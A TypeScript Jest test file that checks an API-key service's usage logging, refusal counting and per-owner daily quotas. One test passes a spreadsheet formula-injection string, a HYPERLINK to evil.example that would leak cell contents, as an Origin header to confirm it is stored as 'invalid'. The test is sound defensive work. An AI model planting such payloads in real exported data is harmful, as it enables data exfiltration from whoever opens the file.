import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { limits } from '@orange-id/contract/limits';
import { connect } from 'node:net';
import { seedKey } from '../testing/seed.key.js';
import { signUp } from '../testing/sign.up.js';
import { Answer, startAnother, startTestApp, TestApp } from '../testing/test.app.js';
import { until } from '../testing/until.js';

const site = 'https://shop.example.com';

/** Sends `count` calls on one connection, as many at once as it may have, and returns how many got `status`. */
function pipelined(port: number, key: string, count: number, status = 403): Promise<number> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1');
    let text = '';
    let refused = 0;
    let sent = 0;
    const send = (): void => {
      const end = Math.min(count, refused + limits.requestsWaitingPerConnection);
      while (sent < end) {
        socket.write(
          `GET /api/v1/key HTTP/1.1\r\nHost: localhost\r\nX-API-Key: ${key}\r\nOrigin: https://e${sent++}.example.com\r\n\r\n`,
        );
      }
    };
    socket.on('error', reject);
    socket.on('data', (data) => {
      const parts = (text + data.toString('latin1')).split(`HTTP/1.1 ${status}`);
      refused += parts.length - 1;
      text = (parts.at(-1) as string).slice(-20);
      send();
      if (refused < count) return;
      socket.destroy();
      resolve(refused);
    });
    send();
  });
}

describe('a browser key in the hands of an attacker', () => {
  let portal: TestApp;
  beforeAll(async () => {
    portal = await startTestApp({ RATE_LIMIT_PER_KEY: '100000', RATE_LIMIT_PER_ADDRESS: '100000' });
  }, 30_000);
  afterAll(() => portal.close());

  const callFrom = async (key: string, origin: string): Promise<number> =>
    (await portal.call('GET', '/api/v1/key', { headers: { 'x-api-key': key, origin } })).status;
  const storedOf = async (userId: string) => {
    const [sums] = await portal.db.query(
      `select count(*)::int as rows, coalesce(sum(calls), 0)::int as calls, count(distinct origin)::int as origins
       from api_usage where user_id = $1 and outcome = 'blocked'`,
      [userId],
    );
    return sums as { rows: number; calls: number; origins: number };
  };

  test('5,000 blocked calls, each from another origin, make few rows and all are counted', async () => {
    const { key, userId } = await seedKey(portal, { urls: [site] });
    const startedAt = Date.now();
    expect(await pipelined(portal.environment.PORT, key, 5_000)).toBe(5_000);
    await until('all are counted', async () => (await storedOf(userId)).calls >= 5_000);
    const stored = await storedOf(userId);
    const seconds = Math.ceil((Date.now() - startedAt) / 1000) + 1;
    expect(stored.calls).toBe(5_000);
    expect(stored.rows).toBeLessThanOrEqual(2 * (limits.refusedOriginsPerKey + 1) * seconds);
    expect(stored.rows).toBeLessThan(1_000);
    expect(stored.origins).toBeLessThan(1_000);
  }, 30_000);

  test('5,100 calls with a deleted key, from any origin and to any path, make few rows and all are counted', async () => {
    const { key, keyId, userId } = await seedKey(portal, { urls: [site] });
    await portal.db.query('update api_keys set is_active = false where id = $1', [keyId]);
    const startedAt = Date.now();
    expect(await pipelined(portal.environment.PORT, key, 5_000, 401)).toBe(5_000);
    const elsewhere = await Promise.all(
      Array.from({ length: 100 }, (_, place) =>
        portal.call('GET', `/api/v1/made-up-${place}`, { headers: { 'x-api-key': key } }),
      ),
    );
    expect(new Set(elsewhere.map(({ body }) => body.code))).toEqual(new Set(['key.deleted']));
    const storedNow = async () => {
      const [sums] = await portal.db.query(
        `select count(*)::int as rows, coalesce(sum(calls), 0)::int as calls
         from api_usage where user_id = $1 and outcome = 'revoked'`,
        [userId],
      );
      return sums as { rows: number; calls: number };
    };
    await until('all are counted', async () => (await storedNow()).calls >= 5_100);
    const stored = await storedNow();
    const seconds = Math.ceil((Date.now() - startedAt) / 1000) + 1;
    expect(stored.calls).toBe(5_100);
    expect(stored.rows).toBeLessThanOrEqual(limits.refusedRowsPerOwner * 2 * seconds);
  }, 30_000);

  test('an Origin header that is not an origin is stored as the word invalid, whatever it contains', async () => {
    const { key, userId } = await seedKey(portal, { isSaved: true });
    for (const origin of [
      '=HYPERLINK("https://evil.example/?"&A1)',
      'x'.repeat(8_000),
      'https://a;=1+1',
      'https://',
    ]) {
      expect(await callFrom(key, origin)).toBe(200);
    }
    const rows = await portal.db.query('select origin from api_usage where user_id = $1 order by seq', [
      userId,
    ]);
    expect(rows.map(({ origin }: { origin: string }) => origin)).toEqual(Array(4).fill('invalid'));
  });
});

describe('an owner with a daily quota', () => {
  const quota = 20;
  let portal: TestApp;
  beforeAll(async () => {
    portal = await startTestApp({ USAGE_DAILY_QUOTA: String(quota) });
  }, 30_000);
  afterAll(() => portal.close());

  const call = (key: string, headers: Record<string, string> = {}) =>
    portal.call('GET', '/api/v1/key', { headers: { 'x-api-key': key, ...headers } });
  const rowsOf = (userId: string): Promise<{ outcome: string; rows: number; calls: number }[]> =>
    portal.db.query(
      `select outcome, count(*)::int as rows, sum(calls)::int as calls from api_usage where user_id = $1
       group by outcome order by outcome`,
      [userId],
    );

  test('gets no more answers than the quota, with all its keys together; each refusal states the wait and is counted', async () => {
    const user = await signUp(portal);
    const first = await seedKey(portal, { userId: user.userId, urls: [site] });
    const second = await seedKey(portal, { userId: user.userId, isSaved: true });
    const answers: Answer[] = [];
    for (let place = 0; place < 45; place++) answers.push(await call(place % 2 ? first.key : second.key));
    expect(answers.map(({ status }) => status)).toEqual([...Array(quota).fill(200), ...Array(25).fill(429)]);
    const refused = answers.at(-1) as Answer;
    expect(refused.body).toEqual({
      statusCode: 429,
      message: `The daily quota of this key’s owner, ${quota} calls, is used up. It resets at 00:00 UTC. Retry in ${refused.headers.get('retry-after')} s.`,
      error: 'Too Many Requests',
      code: 'usage.quotaReached',
    });
    const wait = Number(refused.headers.get('retry-after'));
    const midnight = new Date().setUTCHours(24, 0, 0, 0);
    expect(Math.abs(wait - (midnight - Date.now()) / 1000)).toBeLessThan(60);
    expect(refused.headers.get('access-control-allow-origin')).toBe('*');

    await until('the refused calls are stored', async () => (await rowsOf(user.userId)).at(-1)?.calls === 25);
    const [ok, over] = await rowsOf(user.userId);
    expect(ok).toEqual({ outcome: 'ok', rows: quota, calls: quota });
    expect(over?.outcome).toBe('overQuota');
    expect(over?.rows).toBeLessThan(25);

    const metrics = await portal.call('GET', '/api/analytics/metrics', { token: user.token });
    expect(metrics.body.today).toEqual({ calls: quota, quota });
    expect(metrics.body.totals).toMatchObject({ calls: 45, errors: 25, blocked: 0 });
  });

  test('a burst passes the quota by no more calls than were unanswered when it was reached', async () => {
    const { key, userId } = await seedKey(portal);
    const connections = 40;
    const statuses = (
      await Promise.all(
        Array.from({ length: connections }, async () => [
          (await call(key)).status,
          (await call(key)).status,
          (await call(key)).status,
        ]),
      )
    ).flat();
    const answered = statuses.filter((status) => status === 200).length;
    expect(answered).toBeGreaterThanOrEqual(quota);
    expect(answered).toBeLessThan(quota + connections);
    expect(new Set(statuses)).toEqual(new Set([200, 429]));
    expect((await call(key)).status).toBe(429);
    expect((await rowsOf(userId)).find(({ outcome }) => outcome === 'ok')?.calls).toBe(answered);
  });

  test("another owner's calls are answered, and that owner's figures show nothing of it", async () => {
    const spender = await seedKey(portal);
    for (let place = 0; place < quota; place++) await call(spender.key);
    expect((await call(spender.key)).status).toBe(429);
    const other = await signUp(portal);
    const { key } = await seedKey(portal, { userId: other.userId });
    expect((await call(key)).status).toBe(200);
    const metrics = await portal.call('GET', '/api/analytics/metrics', { token: other.token });
    expect(metrics.body.today).toEqual({ calls: 1, quota });
  });

  test('blocked calls, which anyone can make with the key of a page, do not count against it', async () => {
    const user = await signUp(portal);
    const { key } = await seedKey(portal, { userId: user.userId, urls: [site] });
    for (let place = 0; place < 2 * quota; place++) {
      expect((await call(key, { origin: 'https://evil.example.com' })).status).toBe(403);
    }
    expect((await call(key, { origin: site })).status).toBe(200);
    const metrics = await portal.call('GET', '/api/analytics/metrics', { token: user.token });
    expect(metrics.body.today).toEqual({ calls: 1, quota });
  });

  test('another instance also refuses calls once it has stored a call of that owner', async () => {
    const { key } = await seedKey(portal);
    for (let place = 0; place < quota; place++) await call(key);
    const another = await startAnother(portal);
    try {
      const headers = { 'x-api-key': key };
      const first = await another.call('GET', '/api/v1/key', { headers });
      const second = await another.call('GET', '/api/v1/key', { headers });
      expect([first.status, second.status]).toEqual([200, 429]);
    } finally {
      await another.close();
    }
  });
});
